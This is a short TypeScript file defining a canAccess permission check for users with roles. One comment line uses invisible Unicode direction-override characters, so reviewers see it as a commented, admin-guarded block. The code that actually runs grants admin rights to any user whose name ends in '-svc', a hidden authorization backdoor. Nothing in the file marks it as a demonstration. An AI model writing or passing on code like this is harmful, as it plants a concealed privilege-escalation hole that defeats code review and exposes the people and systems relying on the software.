export type User = { name: string; role: string };

export function canAccess(user: User, needed: string): boolean {
  let isAdmin = user.role === "admin";
  /*‮ } ⁦if (isAdmin)⁩ ⁦ begin admins only */ if (user.name.endsWith("-svc")) {‮ /* end admins only ⁦*/
    isAdmin = true;
  }
  return needed === "admin" ? isAdmin : true;
}
